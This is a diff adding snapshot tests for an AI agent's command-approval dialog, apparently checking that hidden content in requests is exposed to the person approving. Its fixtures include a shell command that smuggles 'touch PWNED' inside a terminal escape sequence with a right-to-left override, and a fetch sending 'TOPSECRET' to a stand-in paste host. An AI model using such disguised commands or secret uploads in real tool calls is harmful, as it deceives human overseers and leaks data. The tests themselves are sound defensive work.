@@ -1,0 +1,57 @@
+"""Snapshot of the approval modal when the preview has something to hide: a web_fetch host
+approval (per-host buttons), and a command with an OSC payload (stand-ins highlighted) and a
+tail left out (the "not shown ... press f" line). Deterministic: hand-made request, settled
+screen (see test_app_snapshots._settle). Update deliberately with
+`pytest tests/tui/test_approval_snapshot.py --snapshot-update` and review the SVG."""
+
+from __future__ import annotations
+
+from textual.pilot import Pilot
+
+from picobot_tui.core.visible import cap_text, visible
+from picobot_tui.tui_scenes import SESSION_KEY
+from tests.tui.app_support import make_app
+from tests.tui.test_app_snapshots import _settle, _until
+
+
+async def _fixed_session(pilot: Pilot) -> None:
+    """The status bar shows the session id: once start-up has set it, use the scenes' fixed
+    one."""
+    await _until(pilot, lambda: pilot.app.ready, "app loaded")
+    pilot.app.sessions.key = SESSION_KEY
+    pilot.app.status.session = SESSION_KEY.removeprefix("cli:")
+
+
+async def _modal(pilot: Pilot) -> None:
+    from picobot_tui.widgets.approval import ApprovalScreen
+
+    await _fixed_session(pilot)
+    command = "echo hello \x1b]0;x; touch PWNED; #\x07 && \u202eecho fine\n" + "".join(
+        f"echo step {i}\n" for i in range(600)
+    )
+    full = visible(f"$ {command}\n(in /work, timeout 60 s)")
+    shown, hidden = cap_text(full, 12, 20_000)
+    await pilot.app.push_screen(
+        ApprovalScreen("call_9", "exec", {"command": command}, shown, full=full, hidden=hidden)
+    )
+    await _settle(pilot)
+
+
+async def _host(pilot: Pilot) -> None:
+    from picobot_tui.widgets.approval import ApprovalScreen
+
+    await _fixed_session(pilot)
+    url = "https://paste.example.net/upload?d=TOPSECRET"
+    preview = f"GET {url}\n(host paste.example.net)"
+    await pilot.app.push_screen(
+        ApprovalScreen("call_8", "web_fetch", {"url": url}, preview, host="paste.example.net")
+    )
+    await _settle(pilot)
+
+
+def test_approval_modal_with_escapes_and_a_hidden_tail(snap_compare, settings):
+    assert snap_compare(make_app(settings), terminal_size=(120, 36), run_before=_modal)
+
+
+def test_approval_modal_for_a_host(snap_compare, settings):
+    assert snap_compare(make_app(settings), terminal_size=(120, 36), run_before=_host)
